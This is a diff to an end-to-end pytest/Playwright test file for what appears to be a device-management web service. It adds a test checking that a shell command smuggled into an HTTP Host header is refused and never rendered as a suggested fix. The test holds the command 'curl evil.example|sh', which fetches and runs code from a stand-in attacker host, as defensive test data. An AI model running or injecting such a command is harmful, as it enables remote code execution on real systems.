@@ -9,6 +9,7 @@ import struct
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, expect
@@ -90,6 +91,29 @@ def test_a_name_of_markup_is_read_as_it_was_written(planted: Place) -> None:
     with planted.operator() as visitor:
         page = visitor.page("/devices/pump-1")
         expect(page.locator("section:has(h2:has-text('Twin'))")).to_contain_text("日本語の名前")
+
+
+def test_a_stranger_writes_no_command_onto_a_page(planted: Place) -> None:
+    planned = "curl evil.example|sh"
+    with tls(planted.server, 9443, insecure()) as line:
+        line.sendall(f"GET /signin HTTP/1.1\r\nHost: x`{planned}`\r\n\r\n".encode())
+        assert b"400" in line.recv(64)
+    deadline = time.monotonic() + 20
+    while not (found := [row for row in refusals_of(planted) if planned in row["cause"]]):
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+    with planted.operator() as visitor:
+        visitor.expected.add("Failed to load resource")
+        page = visitor.page()
+        for path in (
+            f"/refusals/{found[0]['id']}",
+            "/refusals",
+            "/",
+            f"/nowhere/``{planned}``",
+            f"/devices/`{planned}`",
+        ):
+            visitor.go(page, path)
+            assert planned not in page.locator(".fix code").all_inner_texts(), path
 
 
 def test_a_browser_follows_so_often_and_no_more(planted: Place) -> None:
@@ -177,6 +201,10 @@ def test_a_browser_that_does_not_trust_the_port_for_people_is_no_device_that_was
     assert len(found) == 1  # that of the port of devices
 
 
+def refusals_of(place: Place) -> list[dict[str, Any]]:
+    rows: list[dict[str, Any]] = place.asked("GET", "/refusals?limit=1000")["items"]
+    return rows
+
+
 def refused_by_trust(place: Place) -> list[str]:
-    rows = place.asked("GET", "/refusals?limit=1000")["items"]
-    return [row["id"] for row in rows if row["code"] == "tls.server_not_trusted"]
+    return [row["id"] for row in refusals_of(place) if row["code"] == "tls.server_not_trusted"]
